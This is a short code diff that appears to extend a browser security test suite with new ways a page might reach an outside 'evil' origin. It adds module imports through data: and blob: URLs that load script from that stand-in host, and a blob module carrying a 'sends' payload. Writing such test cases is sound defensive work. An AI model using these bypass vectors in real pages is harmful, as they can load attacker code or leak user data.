@@ -88,4 +88,7 @@ export default {
     await sleep(300);
     return registration.backgroundFetch.fetch("x", [evil]);
   },
+  "import of a data: module": ({ evil }) => import(`data:text/javascript,import "${evil}/x.js"`),
+  "import of a blob: module": ({ blob, evil }) => import(blob(`import "${evil}/x.js"`, "text/javascript")),
+  "a module of a blob: that sends": ({ blob, sends }) => import(blob(sends, "text/javascript")),
 };
